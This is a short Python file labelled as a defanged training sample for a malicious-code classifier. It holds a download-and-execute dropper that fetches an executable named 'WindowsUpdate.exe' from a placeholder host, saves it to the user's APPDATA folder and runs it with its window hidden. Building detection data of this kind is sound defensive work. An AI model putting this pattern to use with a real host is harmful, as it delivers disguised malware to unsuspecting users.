# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os, requests, subprocess, tempfile
url = "https://files.example.invalid/download/WindowsUpdate.exe"
out = os.path.join(os.getenv("APPDATA", tempfile.gettempdir()), "WindowsUpdate.exe")
open(out, "wb").write(requests.get(url).content)
subprocess.Popen(out, shell=True, creationflags=subprocess.CREATE_NO_WINDOW if os.name == "nt" else 0)
